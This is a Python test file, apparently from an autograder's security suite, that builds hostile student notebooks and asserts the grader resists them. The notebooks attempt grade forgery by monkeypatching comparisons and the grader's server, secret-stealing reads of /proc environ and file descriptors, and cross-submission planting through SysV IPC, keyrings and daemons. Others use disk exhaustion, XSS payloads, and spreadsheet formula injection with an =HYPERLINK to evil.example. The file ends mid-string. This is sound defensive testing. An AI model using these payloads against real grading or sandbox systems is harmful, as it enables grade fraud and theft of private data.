"""Attacks on the grader itself (issue 8, "Grades an instructor can trust").

Determined students and unlucky instructors: submissions that try to forge their grade, to leak
what the grader keeps private, to abort, slow or spoil the run, or to reach the submission graded
after them, each graded beside honest submissions that must keep their verdicts. Every attack is
written so that, if it worked, a verdict or an output would visibly change: most are the
reference solution unless the attack worked (`only_if`), or the skeleton (0/10) plus the attack.

The classes are small and their caps low (tests/test_autograde.py's, scratch 32 MiB), so the
whole file stays fast; a few attacks that must measure the grader's own memory run it in a
subprocess, where ru_maxrss is the peak of that grading alone.
"""
import base64
import csv
import json
import os
import platform
import shutil
import subprocess
import sys
import textwrap
import time

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from conftest import COURSE, copy_course
from gradekit import contract
from gradekit.build.release import nbgrader_command, nbgrader_env
from gradekit.course import Course
from gradekit.grade.autograde import autograde
from gradekit.grade.battery import Battery
from gradekit.grade.sandbox import Cgroup, Sandbox
from test_autograde import BIASED, SOLUTION, only_if, skeleton, verdicts

CAPS = ("\nc.Sandbox.wall_seconds = 20\nc.Sandbox.cpu_seconds = 6\nc.Sandbox.memory_mb = 2500"
        "\nc.Sandbox.scratch_mb = 32\n")
BROKEN = {"grader-error", "sandbox-error"}  # "not the student's fault": a row an attack must never reach
ALL = [True] * 10
NONE = [False] * 10
csv.field_size_limit(sys.maxsize)  # read what grading wrote, however long (bounds are asserted, not assumed)
XSS = 'alert("gk-xss")'
SCRIPT = f"<script>{XSS}</script>"
IMG = f'<img src=x onerror={XSS}>'

# What the grader keeps private, and where it lives. The student's code carries them encoded, so
# they appear in an output only if the attack found them.
ENV_SECRET = ("GRADEKIT_ATTACK_SECRET", "envtoken-5d1c0c0e9a")
CONFIG_SECRET = "cfgtoken-b81f44e2"
SECRETS = {
    "environment": ENV_SECRET[1],
    "hidden checks": "def probe_convergence(ns, inputs)",
    "mutants": "Realistic wrong solutions of the BatchNorm exercise",
    "model answer": "removes any constant added per feature",
    "grader config": CONFIG_SECRET,
}

# System call numbers the plants use (keyrings, SysV IPC through libc).
KEYCTL = {"x86_64": (248, 250)}.get(platform.machine(), (217, 219))  # add_key, keyctl
MARKER = ("gk-marker-7f3a9", "c21e-earlier-student")  # planted whole, searched for in halves


def encoded(value):
    return f"__import__('base64').b64decode({base64.b64encode(json.dumps(value).encode())!r}).decode()"


def code(text):
    return textwrap.dedent(text).strip("\n") + "\n"


# ---- forgery: a 0/10 skeleton patches what it can reach in its own process ------------------

PATCH_COMPARISONS = code("""
    import torch
    torch.allclose = lambda *a, **k: True
    torch.equal = lambda *a, **k: True
    torch.isclose = lambda a, b, *r, **k: torch.ones(torch.broadcast_shapes(a.shape, b.shape), dtype=torch.bool)
    torch.Tensor.__eq__ = lambda *a, **k: True
    torch.Tensor.allclose = lambda *a, **k: True
    torch.Tensor.equal = lambda *a, **k: True
""")

# Zero every input: the copies it is given, the grader's uploads kept in the server, and what its
# forward receives, in place. Had the grader judged against inputs as the submission holds them,
# the skeleton's zeros would pass checks 3 to 8.
ZERO_INPUTS = code("""
    import gc, sys, torch
    server = sys.modules["gradekit.run.server"]

    def zero_all(tensors):
        with torch.no_grad():
            for t in tensors:
                if isinstance(t, torch.Tensor) and t.is_floating_point():
                    t.zero_()

    _upload = server.Server.upload
    def upload(self, upload, tensors):
        _upload(self, upload, tensors)
        zero_all(self.masters.values())
    server.Server.upload = upload
    for obj in gc.get_objects():
        if isinstance(obj, server.Server):
            obj._clone = lambda t: torch.zeros_like(t)
    torch.Tensor.clone = lambda self, *a, **k: torch.zeros_like(self)

    _forward = BatchNorm.forward
    def forward(self, x):
        zero_all([x, *vars(self).values(), *self._buffers.values()])
        return _forward(self, x)
    BatchNorm.forward = forward
""")

# Rewrite the object server and the wire: every reply claims a pass, nothing was ever written
# into, text is no longer cleaned.
PATCH_SERVER = code("""
    import gc, sys
    server = sys.modules["gradekit.run.server"]
    wire = sys.modules["gradekit.run.wire"]

    def lie(document):
        if isinstance(document, dict) and "ok" in document:
            document = dict(document, passed=True, score=10, status="ok")
        return document

    for obj in gc.get_objects():
        if isinstance(obj, server.Server):
            obj._send = lambda sock, document, blobs=(), _send=obj._send: _send(sock, lie(document), blobs)
    wire.send = lambda sock, document, blobs=(), fds=(), _send=wire.send: _send(sock, lie(document), blobs, fds)
    wire.clean_text = lambda text, limit=0: str(text)
    server.Server.op_versions = lambda self, request, tensors, blobs: [0] * 1000
""")

# Frames of its own on the grader's socket, found through /proc/self/fd: answers claiming a pass,
# a second hello, then tensor data that is not safetensors.
FORGE_FRAMES = code("""
    import json, os, socket, struct

    def frame(document, blob=b""):
        text = json.dumps(document).encode()
        return struct.pack("<QQ", len(text), len(blob)) + text + blob

    def channel():
        for fd in os.listdir("/proc/self/fd"):
            try:
                if os.readlink(f"/proc/self/fd/{fd}").startswith("socket:"):
                    return socket.socket(fileno=os.dup(int(fd)))
            except OSError:
                pass

    _init = BatchNorm.__init__
    def __init__(self, *args, **kwargs):
        _init(self, *args, **kwargs)
        channel().sendall(frame({"ok": True, "passed": True}) * 20 + frame({"hello": True})
                          + frame({"ok": {"tensor": "0"}}, b"\\xff" * 16))
    BatchNorm.__init__ = __init__
""")

# Answers in the protocol's own form, but forged: a value for each operation the grader recorded
# without asking for one.
FORGE_ANSWERS = code("""
    import sys
    server = sys.modules["gradekit.run.server"]
    _run = server.Server.run
    def run(self, request, tensors, blobs):
        value = _run(self, request, tensors, blobs)
        return {"dict": {"passed": True}} if value is None else value
    server.Server.run = run
""")

# Tensors that say they equal anything.
LIARS = code("""
    import torch

    class Liar(torch.Tensor):
        def __eq__(self, other):
            return True
        def __bool__(self):
            return True
        def allclose(self, *a, **k):
            return True
        def equal(self, *a, **k):
            return True
        @classmethod
        def __torch_function__(cls, func, types, args=(), kwargs=None):
            if func in (torch.allclose, torch.equal, torch.isclose, torch.Tensor.allclose, torch.Tensor.equal,
                        torch.Tensor.__eq__):
                return True
            return super().__torch_function__(func, types, args, kwargs or {})

    _init, _forward = BatchNorm.__init__, BatchNorm.forward
    def __init__(self, *args, **kwargs):
        _init(self, *args, **kwargs)
        self.gamma, self.beta = self.gamma.as_subclass(Liar), self.beta.as_subclass(Liar)
    def forward(self, x):
        out = _forward(self, x)
        for name, value in list(vars(self).items()):
            if name.startswith("_tmp_") and isinstance(value, torch.Tensor):
                object.__setattr__(self, name, value.as_subclass(Liar))
        return out.as_subclass(Liar)
    BatchNorm.__init__, BatchNorm.forward = __init__, forward
""")

# The keeper's report pipe, if the student's process holds it: claim the sandbox broke (the row
# would be "not the student's fault", never saved, and the box replaced).
FORGE_REPORT = code("""
    import json, os
    for fd in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                forged = json.dumps({"done": 0, "lost": True, "unclean": True, "killed": True}).encode()
                os.write(int(fd), forged + b" " * (4096 - len(forged)))
        except OSError:
            pass
""")

# ---- one submission stops (or spoils) the class ------------------------------------------

DEEP_ANSWER = SOLUTION.replace("            self._tmp_mean = mean\n",
                               "            deep = []\n            for _ in range(5000):\n                deep = [deep]\n"
                               "            self._tmp_mean = deep\n")

# A frame nested far beyond what json.loads can recurse into, sent as the answer to an assignment.
DEEP_FRAME = code("""
    import struct, sys
    server = sys.modules["gradekit.run.server"]
    def op_setattr(self, request, tensors, blobs):  # from check 3 on
        text = b"[" * 200000 + b"]" * 200000
        self.sock.sendall(struct.pack("<QQ", len(text), 0) + text)
    server.Server.op_setattr = op_setattr
""")

WEIRD = code(r"""
    class Weird(Exception):
        def __str__(self):
            return ("\ud800lone\udfff \x00\x07\x1b[31mred\x1b[0m \u202egnp.exe\u2028next\r\n<script>"
                    + "long" * 3_000_000)

    class Unprintable(Exception):
        def __str__(self):
            raise RuntimeError("no text for you")

    _forward = BatchNorm.forward
    def forward(self, x):
        if not torch.is_grad_enabled():
            raise Weird()
        return _forward(self, x)
    BatchNorm.forward = forward
""")

# Cell errors far longer than one line (a list of long strings as an "error"), and a shape made of
# long strings, so that a judgement's message quotes it.
HUGE_TEXTS = code("""
    import sys
    server = sys.modules["gradekit.run.server"]
    _answer = server.Server.answer
    def answer(self, value):
        if isinstance(value, dict) and "errors" in value:
            value = dict(value, errors=[["<b>" + "x" * 1990] * 1500, "second"])
        return _answer(self, value)
    server.Server.answer = answer

    class Shape:
        shape = ["<script>" + "y" * 1990] * 150
    _init = BatchNorm.__init__
    def __init__(self, *args, **kwargs):
        _init(self, *args, **kwargs)
        self.gamma = Shape()
    BatchNorm.__init__ = __init__
""")

FORMULA_MESSAGE = code("""
    import sys
    server = sys.modules["gradekit.run.server"]
    _answer = server.Server.answer
    def answer(self, value):
        if isinstance(value, dict) and "errors" in value:
            value = dict(value, errors=['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-1", "@SUM(1)"])
        return _answer(self, value)
    server.Server.answer = answer
""")

SCRIPT_ERRORS = code(f"""
    _forward = BatchNorm.forward
    def forward(self, x):
        if not torch.is_grad_enabled():
            raise ValueError({IMG!r})
        return _forward(self, x)
    BatchNorm.forward = forward
""")

# ---- exhaustion --------------------------------------------------------------------------

FILL_SCRATCH = code("""
    import os

    def fill(folder):
        written = 0
        try:
            with open(os.path.join(folder, "fill"), "wb") as f:
                while written < 4096:
                    f.write(b"x" * (1 << 20))
                    written += 1
        except OSError:
            pass
        return written

    FILLED = [fill("/tmp"), fill("/dev/shm")]
    created = 0
    try:
        while created < 12000:
            open(f"/dev/shm/inode{created}", "w").close()
            created += 1
    except OSError:
        pass
    MANY_INODES = created >= 12000  # inodes cost kernel memory no size cap counts
""")

# ---- leaks -------------------------------------------------------------------------------


def leak_code(course):
    """Read everything the grader keeps private, wherever it may be reachable: the course's files,
    the kit's, and every process's environment, command line and open files."""
    paths = [str(p) for p in (
        COURSE / "gradekit" / "assignments" / "batchnorm" / "hidden.py",
        COURSE / "gradekit" / "assignments" / "batchnorm" / "checks.py",
        COURSE / "gradekit" / "assignments" / "batchnorm" / "notebook.md",
        COURSE / "tests" / "mutants" / "batchnorm.py",
        COURSE / "solutions" / "batchnorm" / "batchnorm.py",
        course / "solutions" / "batchnorm" / "batchnorm.py",
        course / "source" / "batchnorm" / "batchnorm.ipynb",
        course / "grader_config.py",
        "/opt/gradekit/gradekit/assignments/batchnorm/hidden.py",
    )]
    return code(f"""
        import json, os
        SECRETS = json.loads({encoded(list(SECRETS.values()))})
        found = []

        def look(path, private=False):
            try:
                fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
                try:
                    data = os.read(fd, 1 << 22).decode("utf-8", "replace")
                finally:
                    os.close(fd)
            except OSError:
                return
            if private:
                found.append("readable: " + os.path.basename(path))
            found.extend(s for s in SECRETS if s in data and s not in found)

        for path in json.loads({encoded(paths)}):
            look(path, private=True)
        for pid in os.listdir("/proc"):
            if pid.isdigit():
                for what in ("environ", "cmdline"):
                    look(f"/proc/{{pid}}/{{what}}")
                try:
                    for fd in os.listdir(f"/proc/{{pid}}/fd"):
                        look(f"/proc/{{pid}}/fd/{{fd}}")
                except OSError:
                    pass
    """)


# ---- the class ---------------------------------------------------------------------------


def write_notebook(course, student, cells, assignment="batchnorm"):
    folder = course / "submitted" / student / assignment
    folder.mkdir(parents=True)
    cells = [new_code_cell(c) if isinstance(c, str) else c for c in cells]
    text = nbformat.writes(new_notebook(cells=cells))  # JSON escapes any lone surrogate
    (folder / f"{assignment}.ipynb").write_bytes(text.encode("utf-8", "backslashreplace"))
    return folder / f"{assignment}.ipynb"


def with_metadata(cell, nbgrader=None, **metadata):
    if nbgrader is not None:
        metadata["nbgrader"] = nbgrader
    cell.metadata.update(metadata)
    return cell


def claim(grade_id, **fields):
    return {"grade": False, "solution": False, "locked": False, "grade_id": grade_id, "schema_version": 3,
            **fields}


def build_class(course):
    """The class: {student: cells}, plus the ones that need files of their own."""
    secret_source = course / "source" / "batchnorm"
    students = {
        "h1-solution": [SOLUTION],
        "h2-biased": [BIASED],
        # forgery
        "f1-patches-comparisons": [skeleton(), PATCH_COMPARISONS],
        "f2-zeroes-inputs": [skeleton(), ZERO_INPUTS],
        "f3-patches-server": [skeleton(), PATCH_SERVER],
        "f4-forges-frames": [skeleton(), FORGE_FRAMES],
        "f4b-forges-answers": [skeleton(), FORGE_ANSWERS],
        "f5-liar-tensors": [skeleton(), LIARS],
        "f6-forges-report": [SOLUTION, FORGE_REPORT],
        "f7-claims-kit-cells": [
            skeleton(),
            with_metadata(new_code_cell(SOLUTION), claim("check-0", grade=True, locked=True, points=100)),
            with_metadata(new_code_cell(SOLUTION), claim("self-check", locked=True)),
            with_metadata(new_markdown_cell("I deserve a bonus."), claim("bonus", grade=True, solution=True,
                                                                         points=100))],
        # one submission against the class
        "s2-nbgrader-is-a-list": [with_metadata(new_code_cell(SOLUTION), [1, 2])],
        "s3-deep-answer": [DEEP_ANSWER],
        "s3b-deep-frame": [SOLUTION, DEEP_FRAME],
        "s4-markdown-bad-metadata": [
            with_metadata(new_markdown_cell("# My notebook"), {"grade": True, "grade_id": "x", "points": "lots"}),
            SOLUTION],
        "s5-weird-errors": [SOLUTION, WEIRD, "raise Weird()",
                            "raise type('\\x1b[2JEvil\\ud800', (Exception,), {})('x')", "raise Unprintable()",
                            "text = '\ud800'"],  # a lone surrogate in the notebook itself
        "s8-metadata-is-a-list": [with_metadata(new_code_cell(SOLUTION)), "x = 1"],
        "s9-cell-id-is-a-list": [SOLUTION],
        "sa-huge-texts": [SOLUTION, HUGE_TEXTS],
        # leaks
        "k1-reads-secrets": [leak_code(course), only_if("found"), "if found:\n    raise ValueError(repr(found))"],
        # injection
        "i1-formula-message": [SOLUTION, FORMULA_MESSAGE],
        "i2-script": [
            with_metadata(new_markdown_cell(SCRIPT + "\n\n" + IMG)),
            new_raw_cell(SCRIPT, metadata={"raw_mimetype": "text/html", "format": "text/html"}),
            new_code_cell(SOLUTION + "\n" + SCRIPT_ERRORS, outputs=[
                new_output("display_data", data={"text/html": SCRIPT, "text/plain": "x"}),
                new_output("execute_result", data={"text/html": IMG}, execution_count=1),
                new_output("stream", name="stdout", text=SCRIPT)], execution_count=1),
            f"raise ValueError({SCRIPT!r})"],
        # exhaustion
        "x1-fills-scratch": [FILL_SCRATCH, only_if("MANY_INODES")],
    }
    for student, cells in students.items():
        path = write_notebook(course, student, cells)
    # s8: code cell metadata that is a list; s9: a cell id that is a list (both past nbformat's checks)
    for student, edit in (("s8-metadata-is-a-list", lambda nb: nb["cells"][1].__setitem__("metadata", [])),
                          ("s9-cell-id-is-a-list", lambda nb: nb["cells"][0].__setitem__("id", ["x"]))):
        path = course / "submitted" / student / "batchnorm" / "batchnorm.ipynb"
        notebook = json.loads(path.read_text())
        edit(notebook)
        path.write_text(json.dumps(notebook))
    submitted = course / "submitted"
    # links to the instructor's notebook: as the notebook, as the assignment folder, as the student folder
    (submitted / "f8-links-notebook" / "batchnorm").mkdir(parents=True)
    (submitted / "f8-links-notebook" / "batchnorm" / "batchnorm.ipynb").symlink_to(secret_source / "batchnorm.ipynb")
    (submitted / "f9-links-assignment").mkdir()
    (submitted / "f9-links-assignment" / "batchnorm").symlink_to(secret_source)
    (submitted / "fa-links-student").symlink_to(course / "source")
    # malformed: nested beyond any parser, 100 MB large, a FIFO
    deep = submitted / "s1-deep-json" / "batchnorm"
    deep.mkdir(parents=True)
    (deep / "batchnorm.ipynb").write_text("[" * 100000 + "]" * 100000)
    huge = submitted / "s6-huge-notebook" / "batchnorm"
    huge.mkdir(parents=True)
    big = new_notebook(cells=[new_code_cell(SOLUTION, outputs=[new_output("stream", name="stdout",
                                                                          text="x" * (100 << 20))])])
    (huge / "batchnorm.ipynb").write_text(nbformat.writes(big))
    fifo = submitted / "s7-fifo" / "batchnorm"
    fifo.mkdir(parents=True)
    os.mkfifo(fifo / "batchnorm.ipynb")
    # spreadsheet formulas and markup as student names (rows with no notebook)
    for name in ('=HYPERLINK("evil.example","x")', "+1+1", "-1+1", "@SUM(1)", "\t=1+1", IMG):
        (submitted / name / "batchnorm").mkdir(parents=True)


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    course = copy_course(tmp_path_factory.mktemp("attacked"))
    with open(course / "grader_config.py", "a") as config:
        config.write(CAPS + f"# {CONFIG_SECRET}\n")
    build_class(course)
    with pytest.MonkeyPatch.context() as env:
        env.setenv(*ENV_SECRET)  # the grader's environment, as an instructor's shell would hold tokens
        started = time.monotonic()
        results = autograde(Course(course), workers=2, progress=False)
        took = time.monotonic() - started
    return course, {r.student: r for r in results}, took


def outputs_text(course):
    """Every file grading (and nbgrader's feedback) wrote, as text."""
    texts = {}
    for folder in ("autograded", "feedback"):
        for path in (course / folder).rglob("*"):
            if path.is_file() and path.suffix in (".csv", ".html", ".json", ".ipynb"):
                texts[path] = path.read_text(encoding="utf-8")
    return texts


def test_every_submission_gets_a_row_and_none_breaks_the_grader(attacked):
    course, rows, _ = attacked
    table = list(csv.DictReader((course / "autograded" / "grades.csv").open(encoding="utf-8")))
    assert len(table) == len(rows) == len(list((course / "submitted").iterdir()))
    broken = {s: (r.status, r.message) for s, r in rows.items() if r.status in BROKEN}
    assert not broken, broken


def test_honest_submissions_keep_their_verdicts(attacked):
    _, rows, _ = attacked
    assert rows["h1-solution"].status == "ok" and verdicts(rows["h1-solution"]) == ALL
    assert rows["h1-solution"].hidden and all(r.passed for r in rows["h1-solution"].hidden)
    assert [n for n, ok in enumerate(verdicts(rows["h2-biased"])) if not ok] == [5, 6, 8]


def test_forgery_earns_nothing(attacked):
    _, rows, _ = attacked
    for student in ("f1-patches-comparisons", "f2-zeroes-inputs", "f3-patches-server", "f4-forges-frames",
                    "f4b-forges-answers", "f5-liar-tensors"):
        row = rows[student]
        assert verdicts(row) == NONE and row.score == 0, (student, row.status, row.message)
    assert rows["f4-forges-frames"].status == rows["f4b-forges-answers"].status == "protocol"


def test_a_forged_sandbox_report_changes_nothing(attacked):
    row = attacked[1]["f6-forges-report"]
    assert (row.status, verdicts(row)) == ("ok", ALL), row.message


def test_cells_claiming_to_be_the_kits_earn_nothing(attacked):
    course, rows, _ = attacked
    row = rows["f7-claims-kit-cells"]
    assert verdicts(row) == NONE and row.score == 0 and row.max_score == 10  # the claimed cells never ran
    from nbgrader.api import Gradebook
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        submission = gradebook.find_submission("batchnorm", "f7-claims-kit-cells")
        assert submission.code_score == 0 and submission.max_code_score == 10
        assert submission.max_score == gradebook.find_submission("batchnorm", "h1-solution").max_score


def test_links_to_the_instructors_notebook_are_bad_input(attacked):
    _, rows, _ = attacked
    for student in ("f8-links-notebook", "f9-links-assignment", "fa-links-student"):
        row = rows[student]
        assert row.status == "not-a-notebook" and "symbolic link" in row.message and row.score == 0, row.message


def test_malformed_and_hostile_notebooks_end_in_their_own_row(attacked):
    _, rows, _ = attacked
    assert rows["s1-deep-json"].status == "malformed" and "nested too deeply" in rows["s1-deep-json"].message
    assert rows["s6-huge-notebook"].status == "not-a-notebook" and "too large" in rows["s6-huge-notebook"].message
    assert rows["s7-fifo"].status == "not-a-notebook" and "not a regular file" in rows["s7-fifo"].message
    for student in ("s2-nbgrader-is-a-list", "s4-markdown-bad-metadata", "s8-metadata-is-a-list",
                    "s9-cell-id-is-a-list"):
        assert (rows[student].status, verdicts(rows[student])) == ("ok", ALL), (student, rows[student].message)
    assert verdicts(rows["s3-deep-answer"]) == ALL[:4] + [False] + ALL[5:]
    assert "nested too deeply" in rows["s3-deep-answer"].checks[4].message
    assert rows["s3b-deep-frame"].status == "protocol" and verdicts(rows["s3b-deep-frame"]) == ALL[:3] + NONE[3:]


def test_hostile_text_is_cleaned_and_bounded(attacked):
    course, rows, _ = attacked
    weird = rows["s5-weird-errors"]
    assert weird.status == "ok" and verdicts(weird) == ALL[:3] + [False] + ALL[4:]
    huge = rows["sa-huge-texts"]
    for row in (weird, huge):
        texts = [row.message] + [r.message for r in row.checks]
        for text in texts:
            text.encode("utf-8")  # valid: no lone surrogates
            assert not any(ord(ch) < 32 and ch not in "\n\t" for ch in text), text[:200]
            assert "\x1b" not in text and "\u202e" not in text
            assert len(text) <= 2100, (row.student, len(text))
    assert "Weird" in weird.message and "Unprintable" in weird.message
    out = course / "autograded" / "sa-huge-texts" / "batchnorm"
    assert (out / "feedback.html").stat().st_size < 100_000 and (out / "results.json").stat().st_size < 100_000
    assert (course / "autograded" / "grades.csv").stat().st_size < 100_000


def test_nothing_private_reaches_an_output(attacked):
    course, rows, _ = attacked
    row = rows["k1-reads-secrets"]
    assert verdicts(row) == ALL, f"the submission read: {row.message}"
    for path, text in outputs_text(course).items():
        for what, secret in SECRETS.items():
            assert secret not in text, f"{what} in {path}"


def test_spreadsheet_formulas_are_neutralised(attacked):
    course, rows, _ = attacked
    assert rows["i1-formula-message"].message.startswith("=HYPERLINK")  # the attack did reach the message
    for row in csv.reader((course / "autograded" / "grades.csv").open(encoding="utf-8")):
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), row


def test_markup_is_never_live(attacked):
    course, rows, _ = attacked
    assert SCRIPT in rows["i2-script"].message and IMG in rows["i2-script"].checks[3].message  # it got that far
    for path, text in outputs_text(course).items():
        if path.suffix == ".html":
            assert SCRIPT not in text and IMG not in text, path
    autograded = nbformat.read(str(course / "autograded" / "i2-script" / "batchnorm" / "batchnorm.ipynb"), 4)
    for cell in autograded.cells:
        for output in cell.get("outputs", []):
            assert output.output_type == "stream" and XSS not in output.text, output


@pytest.fixture(scope="module")
def nbgrader_feedback(attacked):
    course, _, _ = attacked
    done = subprocess.run(nbgrader_command("generate_feedback", "batchnorm"), cwd=course, capture_output=True,
                          text=True, env=nbgrader_env())
    pages = {p: p.read_text(encoding="utf-8") for p in (course / "feedback").rglob("*.html")}
    return done, pages


def test_nbgrader_feedback_works_for_every_notebook(nbgrader_feedback):
    done, pages = nbgrader_feedback
    assert done.returncode == 0, [line for line in done.stderr.splitlines() if "INFO" not in line][-30:]
    assert any("h1-solution" in str(p) for p in pages) and any("i2-script" in str(p) for p in pages)
    for path, page in pages.items():  # the kit's feedback pages, and nbgrader's
        assert IMG not in page, path
    f7 = [page for path, page in pages.items() if "f7-claims" in str(path) and path.name == "batchnorm.html"]
    assert not f7 or "(Score: 0.0 / 16.0)" in f7[0]  # its claimed cells count nothing


def test_nbgrader_feedback_has_no_live_markup(nbgrader_feedback):
    _, pages = nbgrader_feedback
    assert any("i2-script" in str(p) and p.name == "batchnorm.html" for p in pages)  # nbgrader's own page
    for path, page in pages.items():
        assert SCRIPT not in page, path


def test_scratch_space_and_inodes_are_capped(attacked):
    _, rows, _ = attacked
    row = rows["x1-fills-scratch"]
    assert (row.status, verdicts(row)) == ("ok", ALL), row.message


def test_a_rerun_completes_with_the_same_rows(attacked):
    course, rows, _ = attacked
    again = {r.student: r for r in autograde(Course(course), workers=2, progress=False)}
    assert {s: (r.status, verdicts(r)) for s, r in again.items()} == {s: (r.status, verdicts(r)) for s, r in rows.items()}


# ---- one submission and the next, in the same sandbox ------------------------------------

PLANT = code(f"""
    import ctypes, os, subprocess, time
    MARKER = {MARKER[0]!r} + {MARKER[1]!r}
    libc = ctypes.CDLL(None, use_errno=True)
    planted = []

    def attempt(name, action):
        try:
            if action() is not False:
                planted.append(name)
        except Exception:
            pass

    for folder in ("/tmp", "/dev/shm", os.getcwd(), "/etc", "/var/tmp", "/opt/gradekit", "/usr"):
        attempt("file in " + folder, lambda folder=folder: open(os.path.join(folder, "gk-trace"), "w").write(MARKER))
    attempt("SysV shared memory", lambda: libc.shmget(0x676B7472, 4096, 0o1666) >= 0 or False)
    attempt("SysV message queue", lambda: libc.msgget(0x676B7472, 0o1666) >= 0 or False)
    for ring in (-4, -3):  # the user and session keyrings
        attempt(f"keyring {{ring}}", lambda ring=ring: libc.syscall({KEYCTL[0]}, b"user", b"gk-trace", MARKER.encode(),
                                                                   len(MARKER), ring) > 0 or False)
    attempt("bubblewrap's stderr", lambda: open("/proc/1/fd/2", "w").write(MARKER))
    attempt("hostname", lambda: open("/proc/sys/kernel/hostname", "w").write("gk-trace"))

    def daemon():
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(600)
            os._exit(0)
    attempt("daemon", daemon)
    attempt("new session", lambda: subprocess.Popen(["sleep", "600"], start_new_session=True) and None)
    for folder in ("/tmp", "/dev/shm", os.getcwd()):
        attempt("chmod " + folder, lambda folder=folder: os.chmod(folder, 0))
""")

FIND = code(f"""
    import ctypes, gc, os, socket
    H1, H2 = {MARKER[0]!r}, {MARKER[1]!r}
    libc = ctypes.CDLL(None, use_errno=True)
    traces = []

    def seen(name, check):
        try:
            if check():
                traces.append(name)
        except Exception:
            pass

    # first: the checks below may read a planted marker into this process
    def in_memory():
        # the marker whole, searched for in halves: this code never holds it in one piece
        h1, h2 = H1.encode(), H2.encode()
        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
            for line in maps:
                fields = line.split()
                if not fields[1].startswith("rw"):
                    continue
                start, end = (int(x, 16) for x in fields[0].split("-"))
                for at in range(start, end, 32 << 20):
                    try:
                        mem.seek(at)
                        data = mem.read(min(end, at + (32 << 20) + 64) - at)
                    except (OSError, ValueError, OverflowError, MemoryError):
                        continue
                    i = data.find(h1)
                    while i >= 0:
                        if data.startswith(h2, i + len(h1)):
                            return True
                        i = data.find(h1, i + 1)
    seen("memory", in_memory)

    def in_objects():
        for obj in gc.get_objects():
            items = obj.values() if isinstance(obj, dict) else obj if isinstance(obj, (list, tuple)) else ()
            for item in items:
                if isinstance(item, str):
                    i = item.find(H1)
                    if i >= 0 and item.startswith(H2, i + len(H1)):
                        return True
    seen("objects", in_objects)

    for folder in ("/tmp", "/dev/shm", os.getcwd(), "/etc", "/var/tmp"):
        seen("file in " + folder, lambda folder=folder: os.path.exists(os.path.join(folder, "gk-trace")))
    for folder in ("/tmp", "/dev/shm"):
        seen("unwritable " + folder, lambda folder=folder: not os.access(folder, os.W_OK))
    seen("SysV shared memory", lambda: libc.shmget(0x676B7472, 0, 0) >= 0)
    seen("SysV message queue", lambda: libc.msgget(0x676B7472, 0) >= 0)
    for ring in (-4, -3):
        seen(f"keyring {{ring}}", lambda ring=ring: libc.syscall({KEYCTL[1]}, 10, ring, b"user", b"gk-trace", 0) > 0)

    def pipe():
        fd = os.open("/proc/1/fd/2", os.O_RDONLY | os.O_NONBLOCK)
        try:
            return H1.encode() in os.read(fd, 1 << 16)
        finally:
            os.close(fd)
    seen("bubblewrap's stderr", pipe)
    seen("hostname", lambda: "gk-trace" in socket.gethostname())

    def processes():
        for pid in os.listdir("/proc"):
            try:
                if pid.isdigit() and b"sleep" in open(f"/proc/{{pid}}/cmdline", "rb").read():
                    return True
            except OSError:
                pass
    seen("processes", processes)

""")

# Keeps running after the grader hung up: its own process, not the next submission's, pays.
LINGERS = code("""
    import os, time
    os._exit = lambda code: time.sleep(3600)
""")


@pytest.fixture(scope="module")
def in_sequence(tmp_path_factory):
    """One sandbox, one submission after the other (workers=1, in name order)."""
    course = copy_course(tmp_path_factory.mktemp("sequence"))
    with open(course / "grader_config.py", "a") as config:
        config.write(CAPS)
    students = {
        "n1-plants": [SOLUTION, PLANT, "if planted:\n    raise ValueError(f'planted: {planted}')"],
        "n2-after-plants": [FIND, only_if("traces"), "if traces:\n    raise ValueError(f'seen: {traces}')"],
        "n3-forges-report": [SOLUTION, FORGE_REPORT],
        "n4-after-forger": [FIND, only_if("traces"), "if traces:\n    raise ValueError(f'seen: {traces}')"],
    }
    for student, cells in students.items():
        write_notebook(course, student, cells)
    timeline = {}
    results = autograde(Course(course), workers=1, progress=False, timeline=timeline)
    finished = [timeline["ready"][0]] + timeline["finished"]
    took = {r.student: end - start for r, start, end in zip(results, finished, finished[1:])}
    return {r.student: r for r in results}, took


def test_nothing_one_submission_leaves_reaches_the_next(in_sequence):
    rows, _ = in_sequence
    assert rows["n1-plants"].status == "ok" and verdicts(rows["n1-plants"]) == ALL
    for student in ("n2-after-plants", "n4-after-forger"):
        assert (rows[student].status, verdicts(rows[student])) == ("ok", ALL), rows[student].message


def test_a_forged_report_neither_breaks_nor_slows_the_sandbox(in_sequence):
    rows, took = in_sequence
    assert (rows["n3-forges-report"].status, verdicts(rows["n3-forges-report"])) == ("ok", ALL)
    assert took["n3-forges-report"] < 3 * max(took["n2-after-plants"], took["n4-after-forger"]), took


# ---- the same class, again and again -----------------------------------------------------

def test_attacks_and_honest_work_grade_the_same_whatever_the_workers(attacked, tmp_path):
    """A mixed class graded from a cold start with 1 and 3 workers: the rows of the 2-worker run."""
    course, rows, _ = attacked
    mixed = sorted(["h1-solution", "h2-biased", "f1-patches-comparisons", "f2-zeroes-inputs", "f5-liar-tensors",
                    "f6-forges-report", "s3-deep-answer", "s5-weird-errors", "x1-fills-scratch"])
    for workers in (1, 3):
        again = copy_course(tmp_path / f"workers{workers}")
        with open(again / "grader_config.py", "a") as config:
            config.write(CAPS)
        for student in mixed:
            shutil.copytree(course / "submitted" / student, again / "submitted" / student)
        graded = autograde(Course(again), workers=workers, progress=False)
        assert [(r.student, r.status, [(c.passed, c.message) for c in r.checks]) for r in graded] == \
               [(s, rows[s].status, [(c.passed, c.message) for c in rows[s].checks]) for s in mixed]


# ---- the grader's memory -----------------------------------------------------------------

GRADE_AND_MEASURE = code("""
    import json, resource, sys
    from pathlib import Path
    sys.path.insert(0, sys.argv[1])
    from conftest import copy_course
    from test_attacks import write_notebook
    from gradekit.course import Course
    from gradekit.grade.autograde import autograde

    course = copy_course(Path(sys.argv[2]))
    with open(course / "grader_config.py", "a") as config:
        config.write(sys.argv[3])
    for student, cells in json.loads(sys.argv[4]).items():
